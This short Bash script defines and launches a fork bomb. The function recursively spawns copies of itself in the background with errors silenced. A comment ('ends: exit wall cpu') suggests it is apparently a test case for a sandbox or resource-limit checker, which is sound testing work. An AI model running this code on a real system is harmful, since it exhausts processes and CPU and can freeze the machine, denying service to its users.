# ends: exit wall cpu
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 5
